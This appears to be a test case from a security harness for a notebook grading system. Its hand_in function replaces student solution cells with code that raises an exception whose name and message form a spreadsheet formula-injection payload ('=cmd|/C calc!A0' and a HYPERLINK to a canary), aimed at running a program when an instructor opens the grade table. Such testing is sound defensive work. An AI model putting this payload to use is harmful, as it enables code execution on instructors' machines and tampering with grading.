# family = "forging"
# tries = "The error that the table of grades quotes begins as a formula of a spreadsheet, which would start a program when the table is opened."
# could_earn = "Code on the instructor's machine."

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import nbformat

if TYPE_CHECKING:
    from pathlib import Path


def hand_in(folder: Path, notebook: Any) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "raise type('=cmd', (Exception,), {})('|/C calc!A0 =HYPERLINK(attack_canary)')"
    nbformat.write(notebook, folder / "lab_1_2.ipynb")
